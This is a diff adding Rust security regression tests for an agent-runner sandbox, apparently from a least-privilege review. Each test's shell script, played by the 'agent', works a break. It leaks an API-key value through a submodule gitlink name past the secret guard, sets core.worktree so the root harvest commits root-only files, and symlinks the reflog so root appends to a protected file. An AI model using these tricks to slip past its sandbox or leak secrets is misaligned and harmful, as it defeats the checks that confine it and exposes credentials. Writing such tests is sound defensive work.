@@ -1,0 +1,174 @@
+//! Breaks found by the least-privilege review (branch review/lp): each test
+//! asserts a promise of SECURITY.md / PROTOCOL.md that the real binary does
+//! not keep today. They fail until the fix lands.
+
+use std::path::Path;
+
+use super::support::Sandbox;
+
+const CONNECTOR: (&str, &str) = ("ACME_API_KEY", "acme-connector-value-42");
+
+/// Every object of the remote's bare repository (reachable or not), raw.
+fn remote_objects(sb: &Sandbox) -> Vec<u8> {
+    let out = std::process::Command::new("git")
+        .arg("-C")
+        .arg(sb.coordinator.bare_repo())
+        .args(["cat-file", "--batch-all-objects", "--batch"])
+        .output()
+        .unwrap();
+    assert!(out.status.success());
+    out.stdout
+}
+
+fn holds(haystack: &[u8], needle: &str) -> bool {
+    haystack
+        .windows(needle.len())
+        .any(|w| w == needle.as_bytes())
+}
+
+fn git_in(dir: &Path, args: &[&str]) -> String {
+    let out = std::process::Command::new("git")
+        .arg("-C")
+        .arg(dir)
+        .args(args)
+        .output()
+        .unwrap();
+    String::from_utf8_lossy(&out.stdout).trim().to_string()
+}
+
+/// PROTOCOL 4.5 / SECURITY.md "The harvest's secret guard": no push of a
+/// path that holds a secret. The guard checks the names of regular files,
+/// executables and symbolic links only (`added_blobs` skips every other
+/// mode), so a submodule gitlink whose *name* is a connector value goes to
+/// the remote in the tree object.
+#[tokio::test]
+async fn break_a_gitlink_named_with_a_connector_value_is_pushed() {
+    let sb = Sandbox::with_connectors(&[CONNECTOR]).await;
+    let script = sb.script(
+        r#"
+if [ "$ORIZU_RUN_ID" = run-1 ]; then
+  git update-index --add --cacheinfo "160000,$(git rev-parse HEAD),vendor-$ACME_API_KEY"
+  git commit -q -m "agent: vendor" || echo "commit failed" > "$AGENT_OUT/failed"
+fi
+"#,
+    );
+    let child = sb.spawn(&script);
+    let (snap, _) = sb.end_after_seal("run-1", child).await;
+    assert_eq!(sb.read_out("failed"), "");
+    let branch = sb.coordinator.branch();
+    let tree = git_in(
+        &sb.coordinator.bare_repo(),
+        &["ls-tree", &format!("refs/heads/{branch}")],
+    );
+    let finish =
+        serde_json::to_value(&snap.run("run-1").unwrap().finish.as_ref().unwrap().result).unwrap();
+    assert!(
+        !holds(&remote_objects(&sb), CONNECTOR.1),
+        "the remote holds the connector value (in a gitlink's name): tree {tree}; finish {finish}"
+    );
+}
+
+/// SECURITY.md, `--agent-user`: "the agent cannot read the runner's files";
+/// the runner's git runs as root in `repo/`. libgit2 honours
+/// `core.worktree` from `repo/.git/config`, which the agent user owns: the
+/// agent points it at a directory only root can read, the harvest (root)
+/// commits that directory's files, gives the objects in `repo/.git` to the
+/// agent and pushes them. The agent reads a root-only file, and the remote
+/// gets it.
+#[tokio::test]
+async fn break_core_worktree_in_the_agents_git_config_makes_the_root_harvest_commit_root_only_files()
+ {
+    use std::os::unix::fs::PermissionsExt;
+    let user = match super::agent_user::TestUser::create() {
+        Ok(u) => u,
+        Err(reason) => {
+            eprintln!("SKIPPED: {reason}");
+            return;
+        }
+    };
+    let sb = super::agent_user::sandbox_for(&user).await;
+    let private = sb.dir.path().join("root-only");
+    std::fs::create_dir(&private).unwrap();
+    std::fs::write(private.join("secret.txt"), "root-only-content-7731\n").unwrap();
+    std::fs::set_permissions(
+        private.join("secret.txt"),
+        std::fs::Permissions::from_mode(0o600),
+    )
+    .unwrap();
+    std::fs::set_permissions(&private, std::fs::Permissions::from_mode(0o700)).unwrap();
+    let script = sb.script(&format!(
+        r#"
+o="$AGENT_OUT/$ORIZU_RUN_ID"; mkdir -p "$o"
+if [ "$ORIZU_RUN_ID" = run-1 ]; then
+  cat {dir}/secret.txt > "$o/direct" 2>/dev/null; echo "direct=$?" >> "$o/direct"
+  git config core.worktree {dir}
+else
+  git config --unset core.worktree
+  git show HEAD:secret.txt > "$o/got" 2>&1
+fi
+"#,
+        dir = private.display()
+    ));
+    let child = super::agent_user::runner_as(&sb, &script, &user.name);
+    sb.wait_sealed("run-1").await;
+    let second = sb.coordinator.queue_turn("second", None);
+    let (_snap, _output) = sb.end_after_seal(&second, child).await;
+    assert!(
+        sb.read_out("run-1/direct").contains("direct=1"),
+        "the agent user could read the file itself: the test proves nothing"
+    );
+    let got = sb.read_out(&format!("{second}/got"));
+    assert!(
+        !got.contains("root-only-content-7731"),
+        "the agent user read a root-only file through the runner's harvest: {got:?}"
+    );
+    assert!(
+        !holds(&remote_objects(&sb), "root-only-content-7731"),
+        "the runner pushed a root-only file"
+    );
+}
+
+/// `--agent-user`: "symbolic links planted in repo/.git": the runner's git
+/// runs as root there, and libgit2 appends to a reflog with
+/// `open(O_APPEND)`, following a symbolic link. The agent points
+/// `repo/.git/logs/HEAD` at a file only root may write; the harvest's commit
+/// appends its reflog line to it.
+#[tokio::test]
+async fn break_a_reflog_symlinked_by_the_agent_makes_the_root_harvest_append_to_a_root_only_file() {
+    use std::os::unix::fs::PermissionsExt;
+    let user = match super::agent_user::TestUser::create() {
+        Ok(u) => u,
+        Err(reason) => {
+            eprintln!("SKIPPED: {reason}");
+            return;
+        }
+    };
+    let sb = super::agent_user::sandbox_for(&user).await;
+    let private = sb.dir.path().join("root-only");
+    std::fs::create_dir(&private).unwrap();
+    let victim = private.join("victim");
+    std::fs::write(&victim, "original\n").unwrap();
+    std::fs::set_permissions(&victim, std::fs::Permissions::from_mode(0o600)).unwrap();
+    std::fs::set_permissions(&private, std::fs::Permissions::from_mode(0o700)).unwrap();
+    let script = sb.script(&format!(
+        r#"
+o="$AGENT_OUT/$ORIZU_RUN_ID"; mkdir -p "$o"
+echo hi >> "{victim}" 2>/dev/null; echo "direct=$?" > "$o/direct"
+mkdir -p .git/logs/refs/heads
+rm -f .git/logs/HEAD && ln -s "{victim}" .git/logs/HEAD
+echo work > WORK.md
+"#,
+        victim = victim.display()
+    ));
+    let child = super::agent_user::runner_as(&sb, &script, &user.name);
+    let (_snap, _) = sb.end_after_seal("run-1", child).await;
+    assert!(
+        !sb.read_out("run-1/direct").contains("direct=0"),
+        "the agent user could write the file itself: the test proves nothing"
+    );
+    assert_eq!(
+        std::fs::read_to_string(&victim).unwrap(),
+        "original\n",
+        "the runner (root) wrote to a file the agent pointed repo/.git/logs/HEAD at"
+    );
+}
